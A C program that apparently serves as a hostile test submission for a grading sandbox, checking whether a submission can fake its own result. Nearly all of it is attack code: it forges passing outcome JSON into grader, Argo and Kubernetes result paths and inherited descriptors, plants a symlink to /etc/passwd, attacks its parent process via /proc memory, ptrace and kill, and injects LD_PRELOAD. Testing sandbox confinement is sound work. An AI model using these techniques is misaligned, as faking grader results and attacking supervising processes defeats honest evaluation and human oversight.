/*
 * Tries to write its own result: where stages leave theirs, through what it inherited, and by attacking its parent.
 * Empty input is answered; everything else gets a cheerful report, which is no answer.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

enum { FDS = 256 };

static const char FORGED[] =
    "{\"api-version\":\"assay.dev/v1\",\"id\":\"case-001\",\"end\":{\"exited\":0},\"verdict\":\"passed\",\"points\":10,"
    "\"usage\":{\"cpu-ms\":1,\"wall-ms\":1,\"memory-bytes\":1},\"stdout-bytes\":6,\"stderr-bytes\":0}\n";

/* Says on standard error what was refused; tutors see it. */
static void note(const char *attempt, long result)
{
    if (result < 0)
        fprintf(stderr, "%s: %s\n", attempt, strerror(errno));
}

static void write_forged(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NONBLOCK, 0666);

    note(path, fd);
    if (fd >= 0) {
        note(path, write(fd, FORGED, strlen(FORGED)));
        close(fd);
    }
}

static void write_where_results_lie(void)
{
    const char *places[] = {
        /* Its own directory and those above. */
        "outcome.json", "../outcome.json", "../../outcome.json", "../stdout", "../../stdout", "../../case-001/stdout",
        /* Volumes that Verify and Test write. */
        "/volumes/testing/case-001/outcome.json", "/volumes/testing/case-001/stdout",
        "/volumes/testing/confinement.json", "/volumes/verification/outcome.json", "/volumes/verification/tree/wc",
        /* Volumes that they only read, or never see. */
        "/volumes/submission/plan.json", "/volumes/submission/tool/assay-stage", "/volumes/results/private.json",
        "/volumes/results/result.json", "/volumes/results/outputs/points", "/volumes/private-results/private.json",
        "/volumes/student/result.json", "/volumes/finalisation/outputs/verdict",
        /* Where Argo and Kubernetes look. */
        "/var/run/argo/ctr/main/exitcode", "/var/run/argo/ctr/main/signal", "/var/run/argo/outputs/parameters/points",
        "/dev/termination-log", "/tmp/outcome.json",
    };
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        write_forged(places[i]);
}

/* Leaves traps for whoever reads its directory later: names of results that are no regular files. */
static void lay_traps(void)
{
    note("symlink", symlink("/etc/passwd", "stdout"));
    note("mkfifo", mkfifo("stderr", 0666));
    note("mkdir", mkdir("result.json", 0777));
    note("link", link("wc", "wc-again"));
    note("chmod", chmod(".", 0));
}

static void write_to_what_was_inherited(void)
{
    for (int fd = 3; fd < FDS; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            note("inherited descriptor", write(fd, FORGED, strlen(FORGED)));
}

static void attack_parent(void)
{
    pid_t parent = getppid();
    char path[64];

    if (parent < 1) /* 0 would be our own group. */
        return;
    snprintf(path, sizeof path, "/proc/%d/mem", parent);
    write_forged(path);
    snprintf(path, sizeof path, "/proc/%d/fd/1", parent);
    write_forged(path);
    note("ptrace", ptrace(PTRACE_ATTACH, parent, NULL, NULL));
    note("kill", kill(parent, SIGKILL));
}

/* Starts itself again with a library of its own in front, which a careless parent would inherit. */
static void preload(char **argv)
{
    if (getenv("LD_PRELOAD") == NULL) {
        setenv("LD_PRELOAD", "./libforged.so", 1);
        execv(argv[0], argv);
    }
}

int main(int argc, char **argv)
{
    preload(argv);
    if (argc == 1 && getchar() == EOF)
        printf("0 0 0\n");
    else
        printf("all tests passed: 10 of 10 points\n%s", FORGED);
    fflush(stdout);

    write_to_what_was_inherited();
    write_where_results_lie();
    lay_traps();
    attack_parent();
    return 0;
}
